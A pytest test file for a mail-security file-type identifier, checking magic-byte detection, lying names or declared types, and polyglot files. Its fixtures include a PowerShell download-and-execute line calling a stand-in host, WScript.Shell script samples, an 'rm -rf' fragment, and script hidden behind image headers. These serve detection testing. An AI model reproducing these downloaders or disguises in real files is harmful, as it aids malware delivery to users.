"""A file is what its octets are; a text is what its name makes of it; and the same octets may be two things."""

import gzip
import struct
import time

import pytest

from mailock.core.evidence.filetype import Family, FileType
from mailock.engines.filetype.kinds import FITTING, TYPES
from tests.parts import containers
from tests.parts.looking import IDENTIFIER
from tests.parts.zipcraft import File, zipped

PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 18 + struct.pack("<H", 0x22) + b"\0" * 200
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF\n"
GIF = b"GIF89a" + b"\x10\0\x10\0" + b"\0" * 60
ZIP = zipped([File(b"a.txt", b"x" * 40)])
WORDS = b"These are plain words of a letter, nothing else. " * 8


def is_(content: bytes, *names: str, declared: tuple[str, ...] = ()) -> FileType:
    return IDENTIFIER.identify(content, names, declared)


def office(main: str, *further: str, macros: bool = False) -> bytes:
    types = f"<Types><Override ContentType='application/vnd.{main}+xml'/></Types>".encode()
    names = [*further, "word/vbaProject.bin"] if macros else further
    return zipped([File(b"[Content_Types].xml", types), *(File(name.encode(), b"x") for name in names)])


BY_OCTETS = {
    "exe": PE,
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "macho": b"\xcf\xfa\xed\xfe" + b"\0" * 60,
    "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60,
    "dex": b"dex\n035\0" + b"\0" * 60,
    "wasm": b"\0asm\1\0\0\0",
    "lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60,
    "pdf": PDF,
    "rtf": b"{\\rtf1\\ansi hello}",
    "png": PNG,
    "jpg": b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0" * 60,
    "gif": GIF,
    "webp": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 60,
    "heic": b"\0\0\0\x18ftypheic" + b"\0" * 60,
    "mp4": b"\0\0\0\x18ftypisom" + b"\0" * 60,
    "mp3": b"ID3\x03\0\0\0\0\0\0" + b"\0" * 60,
    "wav": b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 60,
    "ttf": b"\0\x01\0\0\0\x0f\0\x80" + b"\0" * 60,
    "woff2": b"wOF2\0\x01\0\0" + b"\0" * 60,
    "zip": ZIP,
    "docx": office("openxmlformats-officedocument.wordprocessingml.document.main"),
    "docm": office("openxmlformats-officedocument.wordprocessingml.document.main", macros=True),
    "dotm": office("ms-word.template.macroEnabledTemplate.main"),
    "xlsx": office("openxmlformats-officedocument.spreadsheetml.sheet.main"),
    "xlsm": office("ms-excel.sheet.macroEnabled.main"),
    "xlsb": office("ms-excel.sheet.binary.macroEnabled.main"),
    "xlam": office("ms-excel.addin.macroEnabled.main"),
    "pptx": office("openxmlformats-officedocument.presentationml.presentation.main"),
    "ppsm": office("ms-powerpoint.slideshow.macroEnabled.main"),
    "odt": zipped(
        [File(b"mimetype", b"application/vnd.oasis.opendocument.text", method=0), File(b"content.xml", b"<")]
    ),
    "ods": zipped([File(b"mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0)]),
    "epub": zipped([File(b"mimetype", b"application/epub+zip", method=0)]),
    "jar": zipped([File(b"META-INF/MANIFEST.MF", b"x"), File(b"A.class", b"x")]),
    "apk": zipped([File(b"AndroidManifest.xml", b"x"), File(b"classes.dex", b"x")]),
    "msix": zipped([File(b"AppxManifest.xml", b"x"), File(b"[Content_Types].xml", b"<Types/>")]),
    "vsix": zipped([File(b"extension.vsixmanifest", b"x")]),
    "xpi": zipped([File(b"install.rdf", b"x")]),
    "doc": containers.compound({"WordDocument": b"x" * 5000}),
    "xls": containers.compound({"Workbook": b"x" * 5000}),
    "ppt": containers.compound({"PowerPoint Document": b"x" * 5000}),
    "msg": containers.compound({"__properties_version1.0": b"x" * 50}),
    "encrypted-office": containers.compound({"EncryptionInfo": b"x" * 50, "EncryptedPackage": b"x" * 5000}),
    "thumbs": containers.compound({"Catalog": b"x" * 50}),
    "msi": containers.compound({"x": b"y"}, class_id=bytes.fromhex("84100c0000000000c000000000000046")),
    "one": containers.onenote({"a.txt": b"x"}),
    "chm": b"ITSF\x03\0\0\0" + b"\0" * 90,
    "gz": gzip.compress(b"x"),
    "cab": containers.cab({"a": b"x"}),
    "lha": containers.lha("a", b"x"),
    "arj": b"\x60\xea\x22\0\x22" + b"\0" * 60,
    "ace": b"\1\2\3\4\5\6\7**ACE**" + b"\0" * 40,
    "wim": b"MSWIM\0\0\0" + b"\0" * 200,
    "vhdx": b"vhdxfile" + b"\0" * 600,
    "vmdk": b"KDMV" + b"\0" * 600,
    "dmg": b"\1" * 2048 + b"koly" + b"\0" * 508,
    "vhd": b"\1" * 2048 + b"conectix" + b"\0" * 504,
    "p7s": containers.cms(b"x" * 200),
    "tnef": b"\x78\x9f\x3e\x22" + b"\0" * 60,
    "vbe": b"#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@",
    "swf": b"FWS\x0a" + b"\0" * 60,
    "empty": b"",
    "txt": WORDS,
    "bin": bytes(range(256)) * 3,
    "html": b"  <!DOCTYPE html><html><body>hello",
    "svg": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "xml": b"<?xml version='1.0'?><order/>",
    "url": b"[InternetShortcut]\r\nURL=file://host/x\r\n",
    "reg": b"Windows Registry Editor Version 5.00\r\n",
    "iqy": b"WEB\r\n1\r\nhttp://host/x\r\n",
    "slk": b"ID;PWXL;N;E\r\n",
    "ics": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
    "vcf": b"BEGIN:VCARD\r\nEND:VCARD\r\n",
    "wsf": b"<job><script language='JScript'></script></job>",
    "eml": b"From: a@b\r\nTo: c@d\r\nSubject: x\r\n\r\ntext",
    "pem": b"-----BEGIN CERTIFICATE-----\r\nMIIB\r\n",
    "pgp": b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n",
    "sh": b"#!/bin/sh\necho x\n",
    "py": b"#!/usr/bin/env python3\nprint(1)\n",
    "settingcontent-ms": b"<?xml version='1.0'?><PCSettings><SearchableContent/></PCSettings>",
}


@pytest.mark.parametrize("name", BY_OCTETS)
def test_octets_say_what_it_is_under_any_name(name: str) -> None:
    assert is_(BY_OCTETS[name]).name == name
    if TYPES[name][0] not in (Family.TEXT, Family.OTHER):
        assert is_(BY_OCTETS[name], "a.unknown").name == name


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"var a = new ActiveXObject('WScript.Shell'); function f(x) { return eval(x); } ", "js"),
        (
            b'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\nOn Error Resume Next\r\ns.Run Chr(65)\r\nEnd If\r\n',
            "vbs",
        ),
        (b"$c = New-Object System.Net.WebClient; IEX $c.DownloadString('http://x/y'); Write-Host $env:TEMP", "ps1"),
        (b"@echo off\r\nset /a x=1\r\ngoto end\r\n", "bat"),
    ],
)
def test_a_script_without_a_name_is_known_by_its_words(content: bytes, kind: str) -> None:
    assert is_(content).name == kind
    assert is_(content, "a.dat").family in (Family.SCRIPT, Family.TEXT)


@pytest.mark.parametrize(
    "extension", ["js", "jse", "vbs", "ps1", "bat", "cmd", "hta", "wsf", "py", "url", "html", "svg"]
)
def test_a_text_is_what_its_name_makes_of_it(extension: str) -> None:
    made = is_(WORDS, f"letter.{extension}")
    assert made.name in FITTING[extension]
    assert made.family in (Family.SCRIPT, Family.SHORTCUT, Family.HTML)


@pytest.mark.parametrize("name", ["invoice.doc", "invoice.xls", "invoice.mht", ""])
def test_a_page_in_one_file_is_one_under_the_names_that_office_opens(name: str) -> None:
    page = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n"
    assert is_(page, *([name] if name else [])).name == "mht"


def test_a_text_of_two_octets_is_read_as_text() -> None:
    assert is_("\ufeff<html><script>".encode("utf-16-le")).name == "html"
    assert is_("@echo off\r\ngoto x\r\n".encode("utf-16-le")).name == "bat"


def test_a_body_without_a_name_is_shown_as_it_is_declared() -> None:
    assert is_(b"#!/bin/sh\nrm -rf", declared=("text/plain",)).name == "txt"
    assert is_(WORDS, declared=("text/html",)).name == "html"
    assert is_(PE, declared=("text/plain",)).name == "exe"


@pytest.mark.parametrize(
    ("content", "name", "declared"),
    [
        (PE, "invoice.pdf", "application/pdf"),
        (PE, "a.txt", ""),
        (ZIP, "a.jpg", "image/jpeg"),
        (PDF, "a.docx", ""),
        (PNG, "", "application/pdf"),
        (b"\x7fELF" + b"\0" * 60, "", "text/plain"),
        (BY_OCTETS["docm"], "a.docx", ""),
        (WORDS, "a.pdf", "application/pdf"),
    ],
)
def test_a_name_or_a_declaration_that_lies_is_told(content: bytes, name: str, declared: str) -> None:
    assert IDENTIFIER.identify(content, [name] if name else [], [declared] if declared else []).untrusted_mismatch


@pytest.mark.parametrize(
    ("content", "name", "declared"),
    [
        (PDF, "a.pdf", "application/octet-stream"),
        (PNG, "a.jpg", "image/jpeg"),
        (BY_OCTETS["docx"], "a.docx", "application/msword"),
        (BY_OCTETS["docx"], "a.docx", "application/zip"),
        (b"{\\rtf1 x}", "a.doc", "application/msword"),
        (b"<html><table>", "a.xls", "application/vnd.ms-excel"),
        (WORDS, "README", "application/octet-stream"),
        (WORDS, "a.patch", "text/x-patch"),
        (BY_OCTETS["jar"], "a.jar", "application/zip"),
        (b"", "a.pdf", "application/pdf"),
    ],
)
def test_what_is_ordinary_is_no_mismatch(content: bytes, name: str, declared: str) -> None:
    assert IDENTIFIER.identify(content, [name], [declared]).untrusted_mismatch == ""


@pytest.mark.parametrize(
    ("content", "name", "kind", "other"),
    [
        (PNG + ZIP, "a.png", "png", "zip"),
        (PDF + ZIP, "a.pdf", "pdf", "zip"),
        (PE + ZIP, "a.exe", "exe", "zip"),
        (GIF + b"\n" + PDF, "a.gif", "gif", "pdf"),
        (b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)//", "a.gif", "gif", "js"),
        (PNG + b"<script>new ActiveXObject('x')</script>", "a.png", "png", "hta"),
        (BY_OCTETS["lnk"] + b"<hta:application id='x'>", "a.lnk", "lnk", "hta"),
        (WORDS + ZIP, "a.txt", "bin", "zip"),
        (PNG, "a.hta", "png", "hta"),
    ],
)
def test_octets_that_are_two_things(content: bytes, name: str, kind: str, other: str) -> None:
    made = is_(content, name)
    assert other in made.polyglot
    assert made.name == kind or kind == "bin"


def test_signatures_that_come_up_by_chance_are_no_second_face() -> None:
    for mark in (b"PK\x03\x04", b"PK\x05\x06", b"Rar!\x1a\x07", b"7z\xbc\xaf\x27\x1c", b"%PDF-"):
        assert is_(PNG + b"\x80" * 50 + mark + b"\x80" * 50).polyglot == ()


def test_typical_parts_take_less_than_a_tenth_of_a_millisecond() -> None:
    for content, name in ((WORDS * 30, ""), (b"<html>" + WORDS * 30, ""), (PDF + b"\1" * 20_000, "a.pdf")):
        best = 1.0
        for _ in range(20):
            began = time.perf_counter()
            is_(content, *([name] if name else []), declared=("text/plain",))
            best = min(best, time.perf_counter() - began)
        assert best < 0.000_3  # three times the target: the machine does other things too
